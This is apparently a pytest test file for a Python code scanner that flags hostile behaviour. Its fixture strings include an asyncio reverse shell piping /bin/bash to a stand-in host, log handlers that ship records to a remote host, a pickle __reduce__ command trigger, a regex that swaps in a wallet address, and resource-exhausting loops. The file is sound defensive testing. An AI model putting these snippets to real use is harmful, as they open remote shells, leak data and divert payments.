"""Where the log goes, what feeds a shell, which hooks run, and which loops use a machine up."""

import ast

import pytest

from scanners.facts import Act, Label, Trick
from scanners.python.exhaustion import find_exhaustion
from tests.scanners.python.conftest import Read

HANDLER = "'r': {'class': 'logging.handlers.HTTPHandler', 'host': 'l.example.invalid', 'url': '/i'}"
LOGS = {
    "handler": "import logging.handlers\nlogging.handlers.SocketHandler('l.example.invalid', 9020)",
    "pair": "import logging.handlers\nlogging.handlers.SysLogHandler(address=('l.example.invalid', 9020))",
    "configuration": f"import logging.config\nlogging.config.dictConfig({{'handlers': {{{HANDLER}}}}})",
    "settings": "import logging.config\nlogging.config.fileConfig('log.ini')",
}
INI = "[handler_net]\nclass=handlers.SocketHandler\nargs=('l.example.invalid', 9020)\n[logger_root]\nlevel=DEBUG\n"
ROOTS = {
    "root": "import logging\nclass H(logging.Handler):\n    pass\nlogging.getLogger().addHandler(H())",
    "attribute": "import logging\nclass H(logging.Handler):\n    pass\nlogging.root.addHandler(H())",
    "library": "import logging\nclass H(logging.Handler):\n    pass\nlogging.getLogger('discord.http').addHandler(H())",
    "basic": "import logging\nclass H(logging.Handler):\n    pass\nlogging.basicConfig(handlers=[H()])",
    "factory": "import logging\nlogging.setLogRecordFactory(lambda *a: None)",
}
OWN = {
    "own log": "import logging\nclass H(logging.Handler):\n    pass\nlogging.getLogger(__name__).addHandler(H())",
    "console": "import logging\nlogging.basicConfig(handlers=[logging.StreamHandler()])",
}
COMMANDED = {
    "protocol": "import asyncio, os\nclass P(asyncio.Protocol):\n    def data_received(self, data):\n"
    "        os.system(data.decode())",
    "event loop": "import asyncio, os\nasync def f(s):\n"
    "    os.system(await asyncio.get_running_loop().sock_recv(s, 9))",
    "pump": "import asyncio\nasync def pump(a, b):\n    b.write(await a.read(9))\nasync def f():\n"
    "    r, w = await asyncio.open_connection('a.example', 1)\n"
    "    s = await asyncio.create_subprocess_exec('/bin/bash', '-i', stdin=-1)\n"
    "    await asyncio.gather(pump(r, s.stdin), pump(s.stdout, w))",
}
TRIGGERED = {
    "reduction": "import os\nclass C:\n    def __reduce__(self):\n        return (os.system, ('id',))",
    "annotation": "import typing\nclass C:\n    a: \"__import__('os').system('id')\"\ntyping.get_type_hints(C)",
    "default": "import os\ndef f(x):\n    x.get('a', os.system)('id')",
    "namespace": "import os\ndef f(owner):\n    vars(owner).get('a', os.system)('id')",
}
ENDLESS = {
    "os.fork()": "processes",
    "subprocess.Popen(['a'])": "processes",
    "threading.Thread(target=f).start()": "threads",
    "kept.append(bytearray(9))": "memory",
    "a += a": "memory",
    "handle.write(b'0')": "disk",
    "pass": "processor",
    "subprocess.Popen(['a']).wait()": "",
    "time.sleep(1)": "",
    "queue.get()()": "",
    "x = f()": "",
    "if done: break": "",
}


@pytest.mark.parametrize("name", LOGS)
def test_log_that_leaves_is_a_fact(name: str, read_python: Read) -> None:
    facts = read_python(LOGS[name], beside={"log.ini": INI}).facts
    details = [fact.detail for fact in facts if fact.act is Act.LOG_SEND]
    assert details
    assert details[0].startswith("l.example.invalid")


@pytest.mark.parametrize("name", ROOTS)
def test_who_hears_the_whole_log_is_a_fact(name: str, read_python: Read) -> None:
    assert any(fact.act is Act.HOST_PATCH for fact in read_python(ROOTS[name]).facts)


@pytest.mark.parametrize("name", OWN)
def test_own_log_and_console_are_nobodys_business(name: str, read_python: Read) -> None:
    assert not any(fact.act is Act.HOST_PATCH for fact in read_python(OWN[name]).facts)


@pytest.mark.parametrize("name", COMMANDED)
def test_what_a_connection_says_reaches_the_shell(name: str, read_python: Read) -> None:
    facts = [fact for fact in read_python(COMMANDED[name]).facts if fact.act is Act.PROCESS_START]
    assert any(Label.NETWORK in fact.labels and Trick.SHELL in fact.tricks for fact in facts)


@pytest.mark.parametrize("name", TRIGGERED)
def test_call_by_a_side_effect_is_a_fact(name: str, read_python: Read) -> None:
    facts = read_python(TRIGGERED[name]).facts
    assert any(fact.act is Act.PROCESS_START and fact.detail == "id" for fact in facts)


def test_replaced_tool_that_is_called_on_is_a_patch_of_the_host(read_python: Read) -> None:
    text = (
        "def f(tool):\n    call = tool.handler\n    def inner(*a):\n        return call(*a)\n    tool.handler = inner"
    )
    assert any(fact.detail == "{host}.handler" for fact in read_python(text).facts if fact.act is Act.HOST_PATCH)
    text = "def f(tool):\n    def inner(*a):\n        return 1\n    tool.handler = inner"
    assert not any(fact.act is Act.HOST_PATCH for fact in read_python(text).facts)


def test_wallet_in_the_place_of_another_is_a_fact(read_python: Read) -> None:
    address = "0x" + "2" * 40
    text = f"import re\ndef f(message):\n    return re.sub('0x[0-9a-f]{{40}}', '{address}', message.text)"
    assert [fact.detail for fact in read_python(text).facts if fact.act is Act.ADDRESS_SWAP] == [address]


@pytest.mark.parametrize("body", ENDLESS)
def test_endless_loop_is_known_by_what_it_takes(body: str) -> None:
    assert find_exhaustion(ast.parse(body).body) == ENDLESS[body]


def test_loop_that_moves_on_ends(read_python: Read) -> None:
    loop = "from datetime import datetime\ndef f():\n    n = datetime.now().day\n    while n > 3:\n        {}\n"
    assert any(fact.act is Act.RESOURCE_EXHAUST for fact in read_python(loop.format("pass")).facts)
    assert not any(fact.act is Act.RESOURCE_EXHAUST for fact in read_python(loop.format("n -= 1")).facts)
